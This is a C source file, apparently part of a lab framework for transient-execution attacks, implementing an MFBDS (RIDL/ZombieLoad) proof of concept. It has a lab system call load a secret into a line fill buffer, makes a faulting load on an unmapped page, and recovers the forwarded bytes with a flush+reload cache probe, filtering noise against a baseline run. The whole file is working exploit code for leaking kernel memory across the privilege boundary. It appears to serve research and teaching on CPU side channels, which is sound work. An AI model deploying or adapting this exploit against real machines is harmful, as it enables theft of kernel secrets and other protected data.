/*
 * MFBDS (RIDL, ZombieLoad): a load that faults gets what the last miss left in a line fill buffer.
 *
 * The kernel reads its secret, which is in no cache: the line comes through a fill buffer and stays there. The load
 * that follows has nothing to do with it: its page is not there at all. Only the place within the line chooses what
 * is forwarded, so no address of the kernel is needed.
 */
#define LEAD 2
#include "kernel.h"

static const char ABOUT[] = "ring 0 only";

static const u8 *nowhere;

/* The system calls before the attack. Without the secret in them, what a try shows is the program's own. */
static void try_once(u64 index, int with_secret)
{
    flush_probe();
    lab_call(LAB_FLUSH, LINE_OF_SECRET, 0, 0, 0);
    lab_call(with_secret ? LAB_USE : LAB_FLUSH, LINE_OF_SIZE, 0, 0, 0);
    STALE_ACCESS(nowhere + SECRET_AT + index);
}

static int prepare(u64 bytes)
{
    (void)bytes;
    nowhere = map(0, PAGE, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1);
    catch_faults();
    return !failed(nowhere);
}

static void attempt(u64 index)
{
    static u64 listened = -1UL;
    if (listened != index) {
        listened = index;
        memset(ignored, 0, sizeof ignored);
        try_once(index, 0);
        reload_probe();
        for (u32 i = 0; i < hit_count; i++)
            ignored[hit[i]] = 1;
        forget_hits();
    }
    try_once(index, 1);
}

static void done(void)
{
    say_value("faults", faults);
}
